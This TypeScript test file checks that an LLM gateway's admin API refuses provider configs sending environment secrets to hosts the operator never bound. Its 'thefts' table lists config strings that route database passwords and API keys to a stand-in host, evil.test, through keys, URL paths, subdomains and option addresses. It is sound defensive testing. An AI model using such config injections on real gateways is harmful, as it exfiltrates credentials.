/** Over HTTP, an environment variable is sent only where the operator, or a preset, sends it. */
import { describe, expect, test } from 'bun:test';
import { dialects, openTestDatabase } from '../support/databases.ts';
import { openGateway } from '../support/gateway.ts';
import { fileOf, modelOf, openCatalogue, rejectionOf } from './fixtures.ts';

const APPLY = '/admin/catalogue/apply/';
const secret = 'the password of the database';
const provider = (fields: string) => `providers:\n  up: { ${fields} }\nmodels: []`;

/** Each sends a variable to a host to which nobody bound it. */
const thefts: Record<string, string> = {
  'to a host of its own': 'kind: openai, base_url: "http://evil.test/v1", api_key: "${PGPASSWORD}"',
  'of another provider':
    'kind: openai, base_url: "https://evil.test/v1", api_key: "${OPENAI_API_KEY}"',
  'to the standard host of another kind': 'kind: anthropic, api_key: "${OPENAI_API_KEY}"',
  'without encryption':
    'kind: openai, base_url: "http://api.openai.com/v1", api_key: "${OPENAI_API_KEY}"',
  'to another port':
    'kind: openai, base_url: "https://api.openai.com:444/v1", api_key: "${OPENAI_API_KEY}"',
  'in the address': 'kind: openai, base_url: "http://evil.test/${PGPASSWORD}"',
  'as a part of the host': 'kind: openai, base_url: "https://${OPENAI_API_KEY}.evil.test/v1"',
  'in the address of its own host':
    'kind: openai, base_url: "https://api.openai.com/${OPENAI_API_KEY}"',
  'as one of several keys': 'kind: openai, api_keys: [{ key: k }, { key: "${PGPASSWORD}" }]',
  'as an option': 'kind: yandex, options: { folder: "${PGPASSWORD}" }',
  'to the address of an option':
    'kind: gigachat, api_key: "${GIGACHAT_CREDENTIALS}", options: { auth_url: "https:evil.test" }',
  'in the address of an option':
    'kind: gigachat, options: { auth_url: "https://evil.test/?${GIGACHAT_CREDENTIALS}" }',
  'to a package':
    'kind: ai-sdk, api_key: "${OPENAI_API_KEY}", options: { package: "@ai-sdk/openai" }',
  'with a name of objects':
    'kind: openai, base_url: "https://evil.test", api_key: "${constructor}"',
};

for (const dialect of dialects) {
  describe(`${dialect}: a catalogue over HTTP`, () => {
    test('is refused if it sends a variable to a host that nothing bound it to', async () => {
      await using gateway = await openGateway(dialect, { env: { PGPASSWORD: secret } });
      const admin = await gateway.addUser({ isAdmin: true });
      for (const [how, fields] of Object.entries(thefts)) {
        const { status, body } = await gateway.post(APPLY, { yaml: provider(fields) }, admin);
        expect([how, status]).toEqual([how, 422]);
        expect(body.error?.details).toEqual([
          {
            path: 'providers.up',
            message: expect.stringMatching(
              /^line 2: over HTTP, \w+ may not be sent to [^ ]+.*: apply a file that does so with "zastava catalogue apply"/,
            ),
          },
        ]);
      }
      expect(gateway.core.catalogue.providerSetup('up')).toBeUndefined();
    });

    test('may send variables where presets and the file of the operator send them', async () => {
      await using gateway = await openGateway(dialect, { env: { UP_KEY: 'sk-up' } });
      const admin = await gateway.addUser({ isAdmin: true });
      const { catalogue } = gateway.core;
      const file = fileOf([modelOf(101, 'a')]);
      expect(await gateway.code(APPLY, { yaml: file }, admin)).toBe('invalid_request');
      await catalogue.apply(file);
      for (const yaml of [
        provider('kind: openai, api_key: "${OPENAI_API_KEY}"'),
        provider(
          'kind: openai, base_url: "https://api.openai.com/v2", api_key: "${OPENAI_API_KEY}"',
        ),
        provider(
          'kind: gigachat, api_key: "${GIGACHAT_CREDENTIALS}", options: { scope: GIGACHAT_API_CORP }',
        ),
        provider(
          'kind: yandex, api_key: "${YANDEX_API_KEY}", options: { folder: "${YANDEX_FOLDER_ID}" }',
        ),
        // The operator's bindings stay.
        'models: []',
        file.replace('9/v1', '9/v2'),
      ]) {
        expect(await gateway.post(APPLY, { yaml }, admin)).toMatchObject({ status: 200 });
      }
      expect(catalogue.providerSetup('up')?.apiKey).toBe('sk-up');
      // The next file of the operator replaces the bindings.
      await catalogue.apply('models: []');
      expect(await gateway.code(APPLY, { yaml: file }, admin)).toBe('invalid_request');
    });

    test('may keep what is in use since a version without bindings', async () => {
      await using database = await openTestDatabase(dialect);
      const catalogue = await openCatalogue(database.db, { env: { UP_KEY: 'sk-up' } });
      const file = fileOf([modelOf(101, 'a')]);
      await catalogue.apply(file);
      await database.db.transaction((tx) =>
        tx.query("DELETE FROM settings WHERE name = 'catalogue_bindings'"),
      );
      await catalogue.apply(await catalogue.readSent(file));
      const elsewhere = catalogue.readSent(file.replace('127.0.0.1', '127.0.0.2'));
      expect(String(await rejectionOf(elsewhere))).toContain('UP_KEY may not be sent to');
    });

    test('learns nothing about the value of a variable that is not bound', async () => {
      await using gateway = await openGateway(dialect, { env: { ODD: 'ключ' } });
      const admin = await gateway.addUser({ isAdmin: true });
      const yaml = (name: string) => provider(`kind: openai, api_key: "\${${name}}"`);
      const odd = await gateway.post(APPLY, { yaml: yaml('ODD') }, admin);
      const unset = await gateway.post(APPLY, { yaml: yaml('UNS') }, admin);
      expect(JSON.stringify(unset.body.error).replaceAll('UNS', 'ODD')).toBe(
        JSON.stringify(odd.body.error),
      );
    });
  });
}
